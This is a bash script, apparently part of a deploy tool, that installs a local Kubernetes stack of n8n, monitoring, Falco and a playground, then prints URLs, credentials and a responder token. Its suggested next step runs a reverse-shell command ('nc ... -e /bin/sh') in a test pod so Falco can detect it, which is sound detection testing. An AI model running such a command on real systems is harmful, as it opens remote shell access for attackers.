# shellcheck shell=bash
# The order in which the system is installed. Each stage detects and keeps its earlier results.

up() {
  check_machine
  watch_end
  stage 'Cluster' ensure_cluster
  stage 'Custom resources' install_definitions
  stage 'Namespaces and policy' install_policy
  stage "Responder's identity and admission" install_token
  stage 'Secrets' install_secrets
  stage "n8n's image" build_image
  stage 'Images into the node' load_images
  stage 'n8n' install_n8n
  stage 'Monitoring' install_monitoring
  stage 'Falco' install_falco
  stage 'Playground' install_playground
  stage 'All ready' await_all
  if [[ $DRY_RUN == yes ]]; then
    ((PROBLEMS == 0)) || refuse_machine
    return 0
  fi
  prove_if_changed
  print_summary
}

print_summary() {
  local expires
  expires="$(date -u -d '+1 hour' +%FT%RZ 2>/dev/null || date -u -v+1H +%FT%RZ)"
  cat <<SUMMARY

The system is up, in the KIND cluster $CLUSTER.

  n8n            $N8N_URL   $(secret n8n n8n ownerEmail) / $(secret n8n n8n ownerPassword)
$(optional_addresses)
  Pushgateway    http://127.0.0.1:30123
  Kubernetes     $KUBECONFIG_FILE

  The responder's token, for a credential outside the cluster, until $expires (shown here only):
  $(k create token n8n-responder --namespace n8n --duration 1h)

$(who_decides)
$(left_out)
Next:
  export KUBECONFIG=$KUBECONFIG_FILE
$(what_to_try)
  ./deploy.sh --status    each component, its memory, and the results of the last proof
  ./deploy.sh --down      delete the cluster
SUMMARY
}

optional_addresses() {
  ! wants kube-prometheus-stack || printf '  %s\n' "Grafana        http://127.0.0.1:30300   admin / $(secret monitoring grafana-admin admin-password)" \
    'Prometheus     http://127.0.0.1:30900'
  ! wants falco || printf '  %s\n' "Falco's UI     http://127.0.0.1:32040   $(secret security falcosidekick-ui FALCOSIDEKICK_UI_USER | sed 's|:| / |')"
}

who_decides() {
  local model
  model="$(secret n8n n8n-import model)"
  printf '  Decisions come from %s.' "${model:-the playbook: no model is configured (OPENAI_API_KEY or OPENAI_BASE_URL, and OPENAI_MODEL)}"
}

left_out() {
  [[ -z $WITHOUT ]] || printf '  Left out, as asked: %s.\n' "$WITHOUT"
}

what_to_try() {
  if wants falco; then
    printf '  kubectl exec -n playground -it pod-delete-test -- nc 1.1.1.1 4444 -e /bin/sh\n'
    printf '                          Falco sees it, the pipeline deletes the pod: kubectl get events -n playground -w\n'
  else
    printf '  ./deploy.sh --self-test send an alert as Falco would, and follow it\n'
  fi
}
